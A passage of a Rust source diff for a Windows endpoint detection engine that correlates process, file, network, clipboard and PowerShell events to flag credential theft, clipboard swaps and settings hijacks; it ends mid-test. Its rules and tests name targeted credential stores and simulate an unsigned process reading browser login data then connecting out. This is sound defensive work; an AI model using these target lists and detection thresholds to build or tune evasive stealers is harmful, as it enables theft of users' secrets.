+          self.trace(*pid, *timestamp_unix_ms, ev, || TraceStep::Ignored {
+            reason: format!("script {p} is under an allowlisted path"),
+          });
+          return;
+        }
+        let image_path = self.procs.get(pid).map(|p| p.image_path.clone());
+        incidents.extend(self.powershell_incident(
+          cfg,
+          *pid,
+          &matches,
+          |m| Evidence::Script {
+            pid: *pid,
+            image_path: image_path.clone(),
+            script_block_id: Some(script_block_id.clone()).filter(|id| !id.is_empty()),
+            path: path.clone(),
+            marker: m.marker.clone(),
+            excerpt: m.excerpt.clone(),
+          },
+          *timestamp_unix_ms,
+          ev,
+        ));
+      }
+      Event::ClipboardChange {
+        pid,
+        image_path,
+        address,
+        timestamp_unix_ms,
+      } => {
+        let previous = self.clipboard.replace(ClipboardContent {
+          pid: *pid,
+          address: address.clone(),
+          timestamp_unix_ms: *timestamp_unix_ms,
+        });
+        let (Some(previous), Some(current)) = (previous, address.as_deref()) else {
+          return;
+        };
+        let Some(previous_address) = previous.address.as_deref() else {
+          return;
+        };
+        // A user copying a second address from the same app, or long after the first, is normal;
+        // a clipper swaps the address within moments of the copy.
+        let delta_ms = timestamp_unix_ms.saturating_sub(previous.timestamp_unix_ms);
+        if previous.pid == *pid
+          || delta_ms > CLIPBOARD_SWAP_WINDOW_MS
+          || crypto_address::same(previous_address, current)
+        {
+          return;
+        }
+        let Some(kind) = crypto_address::classify(current) else {
+          return;
+        };
+
+        let proc = self.proc_info(*pid, image_path);
+        if self.excluded(cfg, *pid, *timestamp_unix_ms, ev, &proc.image_path)
+          || publisher_allowlisted(&cfg.allowlist, proc.signer_publisher.as_deref())
+        {
+          return;
+        }
+        incidents.push(Incident::new(vec![rules::clipboard_hijack_finding(
+          *pid,
+          (*pid != 0).then_some(proc.image_path.as_str()),
+          kind,
+          previous.pid,
+          previous_address,
+          current,
+          delta_ms,
+          *timestamp_unix_ms,
+        )]));
       }
     }
+  }
 
-    Ok(incidents)
+  /// R013-R015: a hosts/proxy/DNS change is only reported when the writer is unsigned and not
+  /// otherwise excluded; signed system components (netsh, Group Policy, VPN clients) change these
+  /// settings routinely.
+  #[allow(clippy::too_many_arguments)]
+  fn hijack_incident(
+    &mut self,
+    cfg: &Config,
+    pid: u32,
+    image_path: &Option<String>,
+    setting: HijackSetting,
+    target: &str,
+    before: Option<String>,
+    after: Option<String>,
+    ts: u64,
+  ) -> Option<Incident> {
+    let proc = self.proc_info(pid, image_path);
+    let unsigned = proc
+      .signer_publisher
+      .as_deref()
+      .map(|s| s.trim().is_empty())
+      .unwrap_or(true);
+    if !unsigned
+      || self.self_exclusion.is_self(&proc.image_path)
+      || self.hash_allowlisted(&cfg.allowlist, &proc.image_path)
+    {
+      return None;
+    }
+    Some(Incident::new(vec![rules::hijack_finding(
+      setting,
+      pid,
+      &proc.image_path,
+      target,
+      before,
+      after,
+      ts,
+    )]))
   }
 
-  fn prune_old(&mut self, pid: u32, now_unix_ms: u64, window_seconds: u64) {
-    let window_ms = window_seconds.saturating_mul(1000);
-    if let Some(q) = self.sensitive.get_mut(&pid) {
-      while let Some(front) = q.front() {
-        if now_unix_ms.saturating_sub(front.timestamp_unix_ms) <= window_ms {
+  /// R027-R029 for PowerShell `pid`, one finding per indicator. The script is remembered so a
+  /// connection from the same process tree can raise R030. The publisher allowlist doesn't apply:
+  /// it would only ever name PowerShell's own (Microsoft) signature.
+  fn powershell_incident(
+    &mut self,
+    cfg: &Config,
+    pid: u32,
+    matches: &[powershell::ScriptMatch],
+    evidence: impl Fn(&powershell::ScriptMatch) -> Evidence,
+    ts: u64,
+    ev: &Event,
+  ) -> Option<Incident> {
+    let proc = self.proc_info(pid, &None);
+    if self.excluded(cfg, pid, ts, ev, &proc.image_path) {
+      return None;
+    }
+    self.prune_scripts(cfg, ts);
+    let lineage = self.lineage_evidence(pid);
+    let findings: Vec<Finding> = matches
+      .iter()
+      .map(|m| rules::powershell_finding(m, evidence(m), lineage.clone(), ts))
+      .collect();
+    let first = findings.first()?;
+    self.scripts.insert(
+      pid,
+      FlaggedScript {
+        rule_ids: findings.iter().map(|f| f.rule_id.clone()).collect(),
+        evidence: first.evidence[0].clone(),
+        timestamp_unix_ms: ts,
+      },
+    );
+    Some(Incident::new(findings))
+  }
+
+  /// R030: a connection from a process tree whose PowerShell was flagged within the correlation
+  /// window. Each flagged script is reported once.
+  fn script_connect_finding(
+    &mut self,
+    cfg: &Config,
+    pid: u32,
+    dest_ip: &IpAddr,
+    network: Evidence,
+    ts: u64,
+  ) -> Option<Finding> {
+    self.prune_scripts(cfg, ts);
+    if self.scripts.is_empty() || destination_allowlisted(&cfg.allowlist, dest_ip) {
+      return None;
+    }
+    let root = self.tree(pid);
+    let script_pid = self
+      .scripts
+      .iter()
+      .filter(|(p, s)| (**p == pid || self.tree(**p) == root) && s.timestamp_unix_ms <= ts)
+      .max_by_key(|(_, s)| s.timestamp_unix_ms)
+      .map(|(p, _)| *p)?;
+    let script = self.scripts.remove(&script_pid)?;
+    Some(rules::powershell_connect_finding(
+      &script.rule_ids,
+      script.evidence,
+      network,
+      ts - script.timestamp_unix_ms,
+      ts,
+    ))
+  }
+
+  fn prune_scripts(&mut self, cfg: &Config, now_unix_ms: u64) {
+    let window_ms = cfg.correlation_window_seconds.saturating_mul(1000);
+    self
+      .scripts
+      .retain(|_, s| now_unix_ms.saturating_sub(s.timestamp_unix_ms) <= window_ms);
+  }
+
+  /// Correlation state worth keeping across an agent restart: sensitive accesses and enumeration
+  /// hits still inside their windows, the processes they came from with their ancestors (for tree
+  /// correlation), and processes started within `max_age_ms`.
+  pub(super) fn snapshot(&self, cfg: &Config, max_age_ms: u64, now_unix_ms: u64) -> EngineState {
+    let window_ms = cfg.correlation_window_seconds.saturating_mul(1000);
+    let sensitive: Vec<SensitiveAccess> = self
+      .sensitive
+      .values()
+      .flatten()
+      .filter(|a| now_unix_ms.saturating_sub(a.timestamp_unix_ms) <= window_ms)
+      .cloned()
+      .collect();
+    let enum_hits: HashMap<u32, Vec<u64>> = self
+      .enum_hits
+      .iter()
+      .map(|(pid, q)| {
+        let hits = q
+          .iter()
+          .copied()
+          .filter(|t| now_unix_ms.saturating_sub(*t) <= ENUM_WINDOW_MS)
+          .collect::<Vec<_>>();
+        (*pid, hits)
+      })
+      .filter(|(_, hits)| !hits.is_empty())
+      .collect();
+
+    let mut procs: HashMap<u32, ProcessInfo> = self
+      .procs
+      .iter()
+      .filter(|(_, p)| now_unix_ms.saturating_sub(p.started_unix_ms) <= max_age_ms)
+      .map(|(pid, p)| (*pid, p.clone()))
+      .collect();
+    let correlated = sensitive
+      .iter()
+      .map(|a| a.pid)
+      .chain(enum_hits.keys().copied());
+    for pid in correlated {
+      let mut cur = pid;
+      for _ in 0..MAX_TREE_DEPTH {
+        let Some(info) = self.procs.get(&cur) else {
+          break;
+        };
+        procs.insert(cur, info.clone());
+        if info.ppid == 0 || info.ppid == cur {
           break;
         }
-        q.pop_front();
+        cur = info.ppid;
       }
-      if q.is_empty() {
-        self.sensitive.remove(&pid);
+    }
+
+    EngineState {
+      procs,
+      sensitive,
+      enum_hits,
+    }
+  }
+
+  /// Takes back a snapshot from before a restart. Processes seen since the restart win over saved
+  /// ones with the same PID; accesses that have left the correlation window are dropped.
+  pub(super) fn restore(&mut self, cfg: &Config, state: EngineState, now_unix_ms: u64) {
+    let window_ms = cfg.correlation_window_seconds.saturating_mul(1000);
+    for (pid, info) in state.procs {
+      self.procs.entry(pid).or_insert(info);
+    }
+    let mut sensitive = state.sensitive;
+    sensitive.sort_by_key(|a| a.timestamp_unix_ms);
+    for access in sensitive {
+      if now_unix_ms.saturating_sub(access.timestamp_unix_ms) <= window_ms {
+        self
+          .sensitive
+          .entry(access.pid)
+          .or_default()
+          .push_back(access);
       }
     }
+    for (pid, hits) in state.enum_hits {
+      let q = self.enum_hits.entry(pid).or_default();
+      q.extend(
+        hits
+          .into_iter()
+          .filter(|t| now_unix_ms.saturating_sub(*t) <= ENUM_WINDOW_MS),
+      );
+      q.make_contiguous().sort_unstable();
+    }
+    self.enum_hits.retain(|_, q| !q.is_empty());
+  }
+
+  /// Learning-mode observations for the baseline builder, collected since the last call.
+  pub fn drain_observations(&mut self) -> Vec<Observation> {
+    std::mem::take(&mut self.observations)
+  }
+
+  fn prune_old(&mut self, cfg: &Config, pid: u32, now_unix_ms: u64, ev: &Event) {
+    let window_ms = cfg.correlation_window_seconds.saturating_mul(1000);
+    let Some(q) = self.sensitive.get_mut(&pid) else {
+      return;
+    };
+    let before = q.len();
+    while let Some(front) = q.front() {
+      if now_unix_ms.saturating_sub(front.timestamp_unix_ms) <= window_ms {
+        break;
+      }
+      q.pop_front();
+    }
+    let (dropped, remaining) = (before - q.len(), q.len());
+    if remaining == 0 {
+      self.sensitive.remove(&pid);
+    }
+    if dropped > 0 {
+      self.trace(pid, now_unix_ms, ev, || TraceStep::SensitivePruned {
+        dropped,
+        remaining,
+        window_seconds: cfg.correlation_window_seconds,
+      });
+    }
+  }
+
+  /// Own binaries and `allowlist.hashes` pins never produce findings.
+  fn excluded(&mut self, cfg: &Config, pid: u32, ts: u64, ev: &Event, image_path: &str) -> bool {
+    let reason = if self.self_exclusion.is_self(image_path) {
+      "AI Defender's own process"
+    } else if self.hash_allowlisted(&cfg.allowlist, image_path) {
+      "image hash is allowlisted"
+    } else {
+      return false;
+    };
+    self.trace(pid, ts, ev, || TraceStep::Ignored {
+      reason: reason.to_string(),
+    });
+    true
+  }
+
+  /// Threat feed detections completed by `ev`, each with the process and its known ancestors.
+  fn feed_rule_incidents(&mut self, cfg: &Config, ev: &Event) -> Vec<Incident> {
+    let (pid, ts) = pid_and_timestamp(ev);
+    let proc = self.procs.get(&pid);
+    let image = feed_rules::event_image(ev)
+      .map(str::to_string)
+      .or_else(|| proc.map(|p| p.image_path.clone()));
+    if image
+      .as_deref()
+      .is_some_and(|image| self.excluded(cfg, pid, ts, ev, image))
+    {
+      return Vec::new();
+    }
+    let proc = self.procs.get(&pid);
+    let parent_image = proc
+      .and_then(|p| self.parent(pid, p))
+      .map(|(_, p)| p.image_path.clone());
+    let ctx = ProcessContext {
+      image_path: proc.map(|p| p.image_path.as_str()),
+      signer_publisher: proc.and_then(|p| p.signer_publisher.as_deref()),
+      parent_image: parent_image.as_deref(),
+    };
+    let findings = self
+      .feed_rules
+      .evaluate(ev, &ctx, &self.reputation, &cfg.machine.tags);
+    findings
+      .into_iter()
+      .map(|mut f| {
+        let mut evidence = self.lineage_evidence(pid);
+        evidence.append(&mut f.evidence);
+        f.evidence = evidence;
+        Incident::new(vec![f])
+      })
+      .collect()
+  }
+
+  /// R023: a script written into a browser profile (extension code) that matches a feed
+  /// wallet-drainer pattern.
+  fn wallet_drain_script(
+    &self,
+    pid: u32,
+    image_path: &str,
+    file_path: &str,
+    access: FileAccessType,
+    ts: u64,
+  ) -> Option<Finding> {
+    let patterns = &self.reputation.wallet_drain_patterns;
+    if patterns.is_empty()
+      || access != FileAccessType::Write
+      || !wallet_drain::is_script_path(file_path)
+      || browser_profiles::profile_browser(&file_path.to_ascii_lowercase()).is_none()
+    {
+      return None;
+    }
+    let pattern = wallet_drain::match_script(Path::new(file_path), patterns)?;
+    Some(rules::wallet_drain_script_finding(
+      pid, image_path, file_path, pattern, ts,
+    ))
+  }
+
+  /// Records a step for `pid` when it is being traced (`--debug trace add`).
+  fn trace(&mut self, pid: u32, ts: u64, ev: &Event, step: impl FnOnce() -> TraceStep) {
+    if !self.trace_pids.contains(&pid) {
+      return;
+    }
+    self.trace_log.push(TraceRecord {
+      pid,
+      timestamp_unix_ms: ts,
+      event: Some(trace::event_kind(ev).to_string()),
+      step: step(),
+    });
+  }
+
+  pub fn set_trace_pids(&mut self, pids: HashSet<u32>) {
+    self.trace_pids = pids;
+  }
+
+  /// Trace steps recorded since the last call.
+  pub fn drain_trace(&mut self) -> Vec<TraceRecord> {
+    std::mem::take(&mut self.trace_log)
   }
 
   fn prune_enum_old(&mut self, pid: u32, now_unix_ms: u64) {
-    const WINDOW_MS: u64 = 10_000;
     if let Some(q) = self.enum_hits.get_mut(&pid) {
       while let Some(front) = q.front() {
-        if now_unix_ms.saturating_sub(*front) <= WINDOW_MS {
+        if now_unix_ms.saturating_sub(*front) <= ENUM_WINDOW_MS {
           break;
         }
         q.pop_front();
@@ -299,6 +1348,121 @@ impl Engine {
       .unwrap_or(false)
   }
 
+  /// Pinned binaries (`allowlist.hashes`) are matched by SHA-256 of the image on disk. The hash is
+  /// cached per path and recomputed if the file's size or modification time changes; like the
+  /// self-exclusion cache, it starts over after `MAX_CACHED_IMAGES` images.
+  fn hash_allowlisted(&mut self, allowlist: &AllowlistConfig, image_path: &str) -> bool {
+    if allowlist.hashes.is_empty() {
+      return false;
+    }
+    let Ok(meta) = std::fs::metadata(image_path) else {
+      return false;
+    };
+    let modified = meta.modified().ok();
+    let len = meta.len();
+
+    let key = self_exclusion::normalize(image_path);
+    let stale = self
+      .hash_cache
+      .get(&key)
+      .map(|c| c.modified != modified || c.len != len)
+      .unwrap_or(true);
+    if stale {
+      if self.hash_cache.len() >= self_exclusion::MAX_CACHED_IMAGES {
+        self.hash_cache.clear();
+      }
+      let sha256 = defender_common::hash::sha256_hex(Path::new(image_path)).ok();
+      self.hash_cache.insert(
+        key.clone(),
+        CachedHash {
+          modified,
+          len,
+          sha256,
+        },
+      );
+    }
+
+    let Some(hash) = self.hash_cache.get(&key).and_then(|c| c.sha256.as_deref()) else {
+      return false;
+    };
+    allowlist
+      .hashes
+      .iter()
+      .any(|h| h.trim().eq_ignore_ascii_case(hash))
+  }
+
+  /// Sensitive accesses by `pid` or any process in the same tree.
+  fn sensitive_in_tree(&self, pid: u32) -> Vec<SensitiveAccess> {
+    let root = self.tree(pid);
+    self
+      .sensitive
+      .iter()
+      .filter(|(p, _)| **p == pid || self.tree(**p) == root)
+      .flat_map(|(_, q)| q.iter().cloned())
+      .collect()
+  }
+
+  /// Topmost known ancestor of `pid`, stopping below shell/system processes (otherwise every
+  /// process started from Explorer would share one tree).
+  fn tree_root(&self, pid: u32) -> u32 {
+    self.tree(pid).0
+  }
+
+  /// The tree `pid` belongs to: PID and start time of its root (see `tree_root`). The start time
+  /// keeps a retired root apart from the later process that has its PID.
+  fn tree(&self, pid: u32) -> (u32, u64) {
+    let Some(mut info) = self.procs.get(&pid) else {
+      return (pid, 0);
+    };
+    let mut cur = pid;
+    for _ in 0..MAX_TREE_DEPTH {
+      let Some((ppid, parent)) = self.parent(cur, info) else {
+        break;
+      };
+      if is_tree_boundary(&parent.image_path) {
+        break;
+      }
+      cur = ppid;
+      info = parent;
+    }
+    (cur, info.started_unix_ms)
+  }
+
+  /// The process that started `child` (running as `pid`): the current holder of its parent PID,
+  /// or the retired one when the PID has been reused since (see `is_parent_of`).
+  fn parent(&self, pid: u32, child: &ProcessInfo) -> Option<(u32, &ProcessInfo)> {
+    if child.ppid == 0 || child.ppid == pid {
+      return None;
+    }
+    [self.procs.get(&child.ppid), self.retired.get(&child.ppid)]
+      .into_iter()
+      .flatten()
+      .find(|parent| is_parent_of(parent, child))
+      .map(|parent| (child.ppid, parent))
+  }
+
+  fn process_evidence(&self, pid: u32) -> Option<Evidence> {
+    self.procs.get(&pid).map(|info| info_evidence(pid, info))
+  }
+
+  /// `pid` and its known ancestors, nearest first (across PID reuse like `tree`).
+  fn lineage_evidence(&self, pid: u32) -> Vec<Evidence> {
+    let mut out = Vec::new();
+    let Some(mut info) = self.procs.get(&pid) else {
+      return out;
+    };
+    let mut cur = pid;
+    for _ in 0..MAX_TREE_DEPTH {
+      out.push(info_evidence(cur, info));
+      let Some((ppid, parent)) = self.parent(cur, info) else {
+        break;
+      };
+      cur = ppid;
+      info = parent;
+    }
+    out
+  }
+
   fn proc_info(&self, pid: u32, image_path: &Option<String>) -> ProcessInfo {
     if let Some(p) = self.procs.get(&pid) {
       return p.clone();
@@ -308,8 +1472,206 @@ impl Engine {
         .clone()
         .unwrap_or_else(|| "<unknown>".to_string()),
       signer_publisher: None,
+      download_origin: None,
+      ppid: 0,
+      started_unix_ms: 0,
+      guid: None,
+      parent_guid: None,
+      exited_unix_ms: None,
+      last_seen_unix_ms: 0,
+    }
+  }
+
+  /// An event whose ProcessGuid differs from the one last seen for its PID comes from a later
+  /// process whose start we missed, or, for an exit, from an earlier process reported late. The
+  /// first retires the earlier process; the second is ignored (returns false).
+  fn check_guid(&mut self, pid: u32, guid: &str, is_exit: bool) -> bool {
+    let known = self
+      .guids
+      .get(&pid)
+      .or_else(|| self.procs.get(&pid).and_then(|p| p.guid.as_ref()));
+    if known.is_some_and(|known| !known.eq_ignore_ascii_case(guid)) {
+      if is_exit {
+        return false;
+      }
+      self.retire(pid);
     }
+    self.guids.insert(pid, guid.to_string());
+    true
+  }
+
+  /// `pid` now belongs to a later process: drops what the earlier one did and keeps it only as
+  /// an ancestor for its children.
+  fn retire(&mut self, pid: u32) {
+    let info = self.procs.remove(&pid);
+    self.forget(pid);
+    if let Some(info) = info {
+      self.retired.insert(pid, info);
+    }
+  }
+
+  /// Drops everything recorded for `pid`.
+  fn forget(&mut self, pid: u32) {
+    self.procs.remove(&pid);
+    self.sensitive.remove(&pid);
+    self.enum_hits.remove(&pid);
+    self.scripts.remove(&pid);
+    self.ransomware.forget(pid);
   }
+
+  /// Forgets processes that exited more than a correlation window ago or have been quiet for
+  /// `PROCESS_IDLE_MS` (their exit may never be reported), unless they are ancestors of a process
+  /// still kept, and accesses and enumeration hits past their windows (also of PIDs whose start
+  /// was never seen, which no process entry covers). Runs at most once a minute.
+  fn sweep(&mut self, cfg: &Config, now_unix_ms: u64) {
+    if now_unix_ms < self.next_sweep_unix_ms {
+      return;
+    }
+    self.next_sweep_unix_ms = now_unix_ms.saturating_add(60_000);
+
+    let window_ms = cfg.correlation_window_seconds.saturating_mul(1000);
+    let mut keep = HashSet::new();
+    let mut keep_retired = HashSet::new();
+    for (pid, info) in &self.procs {
+      let exited = info
+        .exited_unix_ms
+        .is_some_and(|t| now_unix_ms.saturating_sub(t) > window_ms);
+      let idle = now_unix_ms.saturating_sub(info.last_seen_unix_ms.max(info.started_unix_ms))
+        > PROCESS_IDLE_MS;
+      if exited || idle || !keep.insert(*pid) {
+        continue;
+      }
+      let (mut cur, mut info) = (*pid, info);
+      for _ in 0..MAX_TREE_DEPTH {
+        let Some((ppid, parent)) = self.parent(cur, info) else {
+          break;
+        };
+        let current = self
+          .procs
+          .get(&ppid)
+          .is_some_and(|p| std::ptr::eq(p, parent));
+        let new = if current {
+          keep.insert(ppid)
+        } else {
+          keep_retired.insert(ppid)
+        };
+        if !new {
+          break;
+        }
+        cur = ppid;
+        info = parent;
+      }
+    }
+    let gone: Vec<u32> = self
+      .procs
+      .keys()
+      .filter(|pid| !keep.contains(pid))
+      .copied()
+      .collect();
+    for pid in gone {
+      self.forget(pid);
+    }
+    self.retired.retain(|pid, _| keep_retired.contains(pid));
+    self.sensitive.retain(|_, q| {
+      q.retain(|a| now_unix_ms.saturating_sub(a.timestamp_unix_ms) <= window_ms);
+      !q.is_empty()
+    });
+    self.enum_hits.retain(|_, q| {
+      q.retain(|t| now_unix_ms.saturating_sub(*t) <= ENUM_WINDOW_MS);
+      !q.is_empty()
+    });
+    self
+      .guids
+      .retain(|pid, _| self.procs.contains_key(pid) || self.sensitive.contains_key(pid));
+  }
+}
+
+fn info_evidence(pid: u32, info: &ProcessInfo) -> Evidence {
+  Evidence::Process {
+    pid,
+    ppid: info.ppid,
+    image_path: info.image_path.clone(),
+    signer_publisher: info.signer_publisher.clone(),
+    download_origin: info.download_origin.clone(),
+  }
+}
+
+/// Whether `parent` is the process that started `child`, not an earlier or later one with the
+/// same PID: by ProcessGuid when both are known, else by start time.
+fn is_parent_of(parent: &ProcessInfo, child: &ProcessInfo) -> bool {
+  match (&parent.guid, &child.parent_guid) {
+    (Some(guid), Some(parent_guid)) => guid.eq_ignore_ascii_case(parent_guid),
+    _ => parent.started_unix_ms <= child.started_unix_ms,
+  }
+}
+
+/// The Sysmon ProcessGuid of the process an event belongs to, if the source reports one.
+fn event_guid(ev: &Event) -> Option<&str> {
+  match ev {
+    Event::ProcessStart { process_guid, .. }
+    | Event::ProcessExit { process_guid, .. }
+    | Event::FileAccess { process_guid, .. }
+    | Event::NetConnect { process_guid, .. } => process_guid.as_deref(),
+    _ => None,
+  }
+}
+
+pub(super) fn pid_and_timestamp(ev: &Event) -> (u32, u64) {
+  match ev {
+    Event::ProcessStart {
+      pid,
+      timestamp_unix_ms,
+      ..
+    }
+    | Event::ProcessExit {
+      pid,
+      timestamp_unix_ms,
+      ..
+    }
+    | Event::FileAccess {
+      pid,
+      timestamp_unix_ms,
+      ..
+    }
+    | Event::NetConnect {
+      pid,
+      timestamp_unix_ms,
+      ..
+    }
+    | Event::RegistrySet {
+      pid,
+      timestamp_unix_ms,
+      ..
+    }
+    | Event::DnsQuery {
+      pid,
+      timestamp_unix_ms,
+      ..
+    }
+    | Event::ProcessAccess {
+      pid,
+      timestamp_unix_ms,
+      ..
+    }
+    | Event::ScriptBlock {
+      pid,
+      timestamp_unix_ms,
+      ..
+    }
+    | Event::ClipboardChange {
+      pid,
+      timestamp_unix_ms,
+      ..
+    } => (*pid, *timestamp_unix_ms),
+  }
+}
+
+fn rule_ids(incident: &Incident) -> Vec<String> {
+  incident
+    .findings
+    .iter()
+    .map(|f| f.rule_id.clone())
+    .collect()
 }
 
 fn publisher_allowlisted(allowlist: &AllowlistConfig, publisher: Option<&str>) -> bool {
@@ -330,18 +1692,118 @@ fn is_path_allowlisted(allowlist: &AllowlistConfig, path: &str) -> bool {
     .any(|prefix| p.starts_with(&prefix.trim().to_ascii_lowercase()))
 }
 
-fn is_known_browser_image(image_path: &str) -> bool {
-  let p = image_path.to_ascii_lowercase();
-  p.ends_with("\\chrome.exe")
-    || p.ends_with("\\msedge.exe")
-    || p.ends_with("\\brave.exe")
-    || p.ends_with("\\firefox.exe")
+fn destination_allowlisted(allowlist: &AllowlistConfig, ip: &IpAddr) -> bool {
+  if allowlist.exclude_loopback_destinations && net::is_loopback(ip) {
+    return true;
+  }
+  if allowlist.exclude_private_destinations && net::is_private(ip) {
+    return true;
+  }
+  allowlist
+    .destinations
+    .iter()
+    .filter_map(|e| e.parse::<Cidr>().ok())
+    .any(|c| c.contains(ip))
+}
+
+const MAX_TREE_DEPTH: usize = 16;
+/// A process without events for this long is forgotten, like one that exited (see `sweep`).
+const PROCESS_IDLE_MS: u64 = 6 * 60 * 60_000;
+/// R007 counts file accesses under protected roots within this window.
+const ENUM_WINDOW_MS: u64 = 10_000;
+
+/// R024 only fires when the replacement follows the copy this closely.
+const CLIPBOARD_SWAP_WINDOW_MS: u64 = 3_000;
+
+// Long-lived parents of unrelated processes; a process tree never extends above these.
+const TREE_BOUNDARY_IMAGES: &[&str] = &[
+  "explorer.exe",
+  "services.exe",
+  "svchost.exe",
+  "wininit.exe",
+  "winlogon.exe",
+  "userinit.exe",
+  "smss.exe",
+  "csrss.exe",
+  "taskhostw.exe",
+  "runtimebroker.exe",
+];
+
+fn is_tree_boundary(image_path: &str) -> bool {
+  let p = image_path.to_ascii_lowercase();
+  let name = p.rsplit(['\\', '/']).next().unwrap_or(&p);
+  TREE_BOUNDARY_IMAGES.contains(&name) || is_known_browser_image(&p)
+}
+
+fn is_known_browser_image(image_path: &str) -> bool {
+  image_path.to_ascii_lowercase().ends_with("\\firefox.exe")
+    || browser_profiles::is_chromium_image(image_path)
+}
+
+fn is_owner_access(image_path: &str, target: ProtectedTarget) -> bool {
+  // Conservative: if the accessing process is the application that owns the store (a known
+  // browser for profile files), treat its access as expected and do not generate findings or
+  // correlations.
+  match protected_paths::group_for(target) {
+    Some(group) => group.is_owner(image_path),
+    None => is_known_browser_image(image_path),
+  }
+}
+
+/// How much a read of `target` says about theft: saved passwords, keys and wallets outrank
+/// session cookies and tokens, which outrank browser state and VPN profiles.
+fn target_strength(target: ProtectedTarget) -> u8 {
+  match target {
+    ProtectedTarget::ChromeLoginData
+    | ProtectedTarget::FirefoxLoginsJson
+    | ProtectedTarget::FirefoxKey4Db
+    | ProtectedTarget::SshKey
+    | ProtectedTarget::CryptoWallet
+    | ProtectedTarget::CredentialVault => 3,
+    ProtectedTarget::ChromeCookies
+    | ProtectedTarget::FirefoxCookiesSqlite
+    | ProtectedTarget::CloudCliToken => 2,
+    ProtectedTarget::ChromeLocalState | ProtectedTarget::VpnConfig => 1,
+  }
+}
+
+/// The accesses in `held` that can explain traffic at `now`: within the window and not made by the
+/// application owning the target (nor, with `connector`, sent by it). Strongest target first, then
+/// most recent, so a benign read after a `Login Data` read doesn't hide it.
+fn correlated_accesses(
+  held: Vec<SensitiveAccess>,
+  connector: Option<&str>,
+  now: u64,
+  window_ms: u64,
+) -> Vec<SensitiveAccess> {
+  let mut matches: Vec<SensitiveAccess> = held
+    .into_iter()
+    .filter(|a| now.saturating_sub(a.timestamp_unix_ms) <= window_ms)
+    .filter(|a| {
+      !is_owner_access(&a.image_path, a.target)
+        && !connector.is_some_and(|image| is_owner_access(image, a.target))
+    })
+    .collect();
+  matches.sort_by_key(|a| {
+    (
+      std::cmp::Reverse(target_strength(a.target)),
+      std::cmp::Reverse(a.timestamp_unix_ms),
+    )
+  });
+  matches
 }
 
-fn is_browser_self_access(image_path: &str, _target: ProtectedTarget) -> bool {
-  // Conservative: if the accessing process is a known browser, treat its access to its own stores
-  // as expected and do not generate findings or correlations.
-  is_known_browser_image(image_path)
+/// Counts the correlated accesses and the distinct protected targets they touched.
+fn matches_note(matches: &[SensitiveAccess]) -> Evidence {
+  let targets: BTreeSet<&str> = matches.iter().map(|a| a.target.label()).collect();
+  Evidence::Note {
+    message: format!(
+      "sensitive accesses in window: {} across {} protected target(s) ({})",
+      matches.len(),
+      targets.len(),
+      targets.into_iter().collect::<Vec<_>>().join(", ")
+    ),
+  }
 }
 
 #[cfg(test)]
@@ -369,6 +1831,10 @@ mod tests {
         ppid: 0,
         image_path: "C:\\Temp\\evil.exe".to_string(),
         signer_publisher: None,
+        command_line: None,
+        download_origin: None,
+        process_guid: None,
+        parent_process_guid: None,
         timestamp_unix_ms: base,
       },
       Event::FileAccess {
@@ -376,15 +1842,17 @@ mod tests {
         image_path: Some("C:\\Temp\\evil.exe".to_string()),
         file_path,
         access: FileAccessType::Read,
+        process_guid: None,
         timestamp_unix_ms: base + 1_000,
       },
       Event::NetConnect {
         pid,
         image_path: Some("C:\\Temp\\evil.exe".to_string()),
-        dest_ip: "1.2.3.4".to_string(),
+        dest_ip: IpAddr::from([1, 2, 3, 4]),
         dest_port: 443,
         dest_host: None,
         protocol: "tcp".to_string(),
+        process_guid: None,
         timestamp_unix_ms: base + 2_000,
       },
     ];
@@ -396,6 +1864,338 @@ mod tests {
     assert!(incidents.iter().any(|i| i.severity == Severity::Red));
   }
 
+  #[test]
+  fn correlation_picks_the_strongest_access_in_window() {
+    let cfg = cfg();
+    let mut eng = Engine::new();
+    let pid = 1234;
+    let base = 1_700_000_000_000u64;
+    let profile = "C:\\Users\\User\\AppData\\Local\\Google\\Chrome\\User Data";
+    let read = |file: String, ts: u64| Event::FileAccess {
+      pid,
+      image_path: Some("C:\\Temp\\evil.exe".to_string()),
+      file_path: file,
+      access: FileAccessType::Read,
+      process_guid: None,
+      timestamp_unix_ms: ts,
+    };
+
+    let events = vec![
+      Event::ProcessStart {
+        pid,
+        ppid: 0,
+        image_path: "C:\\Temp\\evil.exe".to_string(),
+        signer_publisher: None,
+        command_line: None,
+        download_origin: None,
+        process_guid: None,
+        parent_process_guid: None,
+        timestamp_unix_ms: base,
+      },
+      read(format!("{profile}\\Default\\Login Data"), base + 1_000),
+      read(format!("{profile}\\Local State"), base + 2_000),
+      Event::NetConnect {
+        pid,
+        image_path: Some("C:\\Temp\\evil.exe".to_string()),
+        dest_ip: IpAddr::from([1, 2, 3, 4]),
+        dest_port: 443,
+        dest_host: None,
+        protocol: "tcp".to_string(),
+        process_guid: None,
+        timestamp_unix_ms: base + 3_000,
+      },
+    ];
+
+    let incidents = eng.process(&cfg, &events).unwrap();
+    let r009 = incidents
+      .iter()
+      .flat_map(|i| &i.findings)
+      .find(|f| f.rule_id == "R009")
+      .expect("R009");
+    assert!(r009.evidence.iter().any(|e| matches!(
+      e,
+      Evidence::Correlation { sensitive_file, .. } if sensitive_file.ends_with("Login Data")
+    )));
+    assert!(r009.evidence.iter().any(|e| matches!(
+      e,
+      Evidence::Note { message } if message.starts_with(
+        "sensitive accesses in window: 2 across 2 protected target(s) (chromium_local_state, chromium_login_data)"
+      )
+    )));
+  }
+
+  #[test]
+  fn process_exit_and_pid_reuse_scope_per_process_state() {
+    let cfg = cfg();
+    let mut eng = Engine::new();
+    let base = 1_700_000_000_000u64;
+    let start = |pid: u32, ppid: u32, image: &str, ts: u64| Event::ProcessStart {
+      pid,
+      ppid,
+      image_path: image.to_string(),
+      signer_publisher: None,
+      command_line: None,
+      download_origin: None,
+      process_guid: None,
+      parent_process_guid: None,
+      timestamp_unix_ms: ts,
+    };
+    let read = |pid: u32, image: &str, ts: u64| Event::FileAccess {
+      pid,
+      image_path: Some(image.to_string()),
+      file_path: "C:\\Users\\User\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data"
+        .to_string(),
+      access: FileAccessType::Read,
+      process_guid: None,
+      timestamp_unix_ms: ts,
+    };
+    let connect = |pid: u32, image: &str, ts: u64| Event::NetConnect {
+      pid,
+      image_path: Some(image.to_string()),
+      dest_ip: IpAddr::from([1, 2, 3, 4]),
+      dest_port: 443,
+      dest_host: Some("upload.example".to_string()),
+      protocol: "tcp".to_string(),
+      process_guid: None,
+      timestamp_unix_ms: ts,
+    };
